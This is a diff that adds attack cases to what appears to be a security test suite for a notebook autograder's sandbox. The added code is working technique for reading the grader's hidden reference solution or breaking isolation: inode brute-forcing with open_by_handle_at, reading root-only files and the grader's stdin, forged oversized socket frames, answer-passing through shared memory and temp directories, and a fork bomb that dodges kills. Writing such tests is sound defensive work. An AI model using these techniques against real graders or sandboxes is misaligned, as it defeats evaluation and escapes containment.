@@ -295,6 +295,143 @@ def attack_cases(good, blank) -> dict[str, object]:
             return stolen["equalize_color"](img)
     """))
     cases["cached_values"] = nb
+
+    # File handles reach an inode under any mount view: name a visible file, then try the inodes
+    # around it (generation 0 skips ext4's check) until one holds the reference solution.
+    cases["file_handles"] = _gated(blank, "stolen", good, """
+        import ctypes, os, struct
+        import graders
+
+        class FileHandle(ctypes.Structure):
+            _fields_ = [("handle_bytes", ctypes.c_uint), ("handle_type", ctypes.c_int),
+                        ("f_handle", ctypes.c_char * 64)]
+
+        libc = ctypes.CDLL(None, use_errno=True)
+        stolen, known = None, FileHandle(handle_bytes=64)
+        if libc.name_to_handle_at(-100, graders.__file__.encode(), ctypes.byref(known),
+                                  ctypes.byref(ctypes.c_int()), 0) == 0:
+            mount_fd = os.open(os.path.dirname(graders.__file__), os.O_RDONLY)
+            base = os.stat(graders.__file__).st_ino
+            for ino in range(max(1, base - 50000), base + 50000):
+                handle = FileHandle(handle_bytes=8, handle_type=1, f_handle=struct.pack("<II", ino, 0))
+                fd = libc.open_by_handle_at(mount_fd, ctypes.byref(handle), os.O_RDONLY)
+                if fd < 0:
+                    continue
+                try:
+                    data = os.read(fd, 1 << 20)
+                except OSError:
+                    data = b""
+                os.close(fd)
+                if b"### BEGIN SOLUTION" in data and b"def equalize_hist" in data:
+                    stolen = data
+                    break
+    """)
+
+    # tests/test_classroom.py plants a root-only (0600) file where workers can see its name.
+    cases["root_only_file"] = _gated(blank, "secret", good, """
+        import sys
+        from pathlib import Path
+        secret = None
+        for path in [Path(sys.prefix) / ".course-root-only", Path.home() / ".course_salt", Path("/root/.course_salt")]:
+            try:
+                secret = path.read_text()
+                break
+            except OSError:
+                pass
+    """)
+
+    # The grader's stdin (tests/test_classroom.py feeds it the reference answers).
+    cases["read_stdin"] = _gated(blank, "stolen", good, """
+        import os, sys
+        try:
+            stolen = "def equalize_hist" in os.read(0, 1 << 20).decode(errors="replace")
+        except OSError:
+            stolen = False
+    """)
+
+    # Replies forged on the worker's own socket: an array of 2**70 elements, then 8 arrays of 1 GiB.
+    forge = '''
+        import json, os, struct
+
+        def _forge(frame):
+            for fd in range(3, 64):
+                try:
+                    if "socket" in os.readlink(f"/proc/self/fd/{fd}"):
+                        os.write(fd, frame)
+                except OSError:
+                    pass
+
+        def histogram(img):
+            _forge(FRAME)
+            raise NotImplementedError()
+
+        equalize_hist = equalize_color = histogram
+    '''
+    nb = copy.deepcopy(blank)
+    nb.cells.append(_code(forge.replace("_forge(FRAME)", '''header = json.dumps({"__dict__": {"ok": {"__array__": 0, "dtype": "<f8", "shape": [2**70]}, "id": 1}}).encode()
+            _forge(struct.pack("<II", 1, len(header)) + header + struct.pack("<Q", 8) + bytes(8))''')))
+    cases["forged_frame"] = nb
+    nb = copy.deepcopy(blank)
+    nb.cells.append(_code(forge.replace("_forge(FRAME)", '''arrays = [{"__array__": i, "dtype": "|u1", "shape": [2**30]} for i in range(8)]
+            header = json.dumps({"__dict__": {"ok": arrays, "id": 1}}).encode()
+            _forge(struct.pack("<II", 8, len(header)) + header + struct.pack("<Q", 2**30) + bytes(2**26))''')))
+    cases["huge_frame"] = nb
+
+    # State that outlives one worker: System V shared memory, the uid's keyring, world-writable
+    # directories. The writer is a complete notebook that leaves its answers there; the reader,
+    # graded next, is blank and takes them.
+    nb = copy.deepcopy(good)
+    nb.cells.append(_code("""
+        import ctypes, os
+        answers = "def equalize_hist: the answers are in this notebook"
+        payload = answers.encode()
+        libc = ctypes.CDLL(None, use_errno=True)
+        libc.shmat.restype = ctypes.c_void_p
+        shm = libc.shmget(0x5EED, 4096, 0o1000 | 0o666)
+        if shm >= 0:
+            addr = libc.shmat(shm, None, 0)
+            if addr not in (None, ctypes.c_void_p(-1).value):
+                ctypes.memmove(addr, payload, len(payload))
+        libc.syscall(248, b"user", b"course-answers", payload, len(payload), -4)  # add_key, user keyring
+        for folder in ("/run/lock", "/dev/shm", "/var/tmp", "/tmp"):
+            try:
+                with open(f"{folder}/course-answers", "w") as f:
+                    f.write(answers)
+            except OSError:
+                pass
+    """))
+    cases["shared_state_1_writer"] = nb
+    cases["shared_state_2_reader"] = _gated(blank, "stolen", good, """
+        import ctypes, os, time
+        libc = ctypes.CDLL(None, use_errno=True)
+        libc.shmat.restype = ctypes.c_void_p
+        stolen = False
+        for _ in range(50):  # the writer may still be loading
+            shm = libc.shmget(0x5EED, 4096, 0)
+            if shm >= 0:
+                addr = libc.shmat(shm, None, 0)
+                stolen = addr not in (None, ctypes.c_void_p(-1).value) and b"def" in ctypes.string_at(addr, 64)
+            key = libc.syscall(250, 0, -4, b"user", b"course-answers", 0)  # keyctl(KEYCTL_SEARCH)
+            stolen = stolen or key >= 0
+            stolen = stolen or any(os.path.exists(f"{d}/course-answers") for d in ("/run/lock", "/dev/shm", "/var/tmp", "/tmp"))
+            if stolen:
+                break
+            time.sleep(0.1)
+    """)
+
+    # A process that forks and exits a thousand times a second, so a kill by process list misses it.
+    nb = copy.deepcopy(blank)
+    nb.cells.append(_code("""
+        import os
+        if os.fork() == 0:
+            while True:
+                try:
+                    if os.fork() > 0:
+                        os._exit(0)
+                except OSError:
+                    pass
+    """))
+    cases["fork_spinner"] = nb
     return cases
 
 
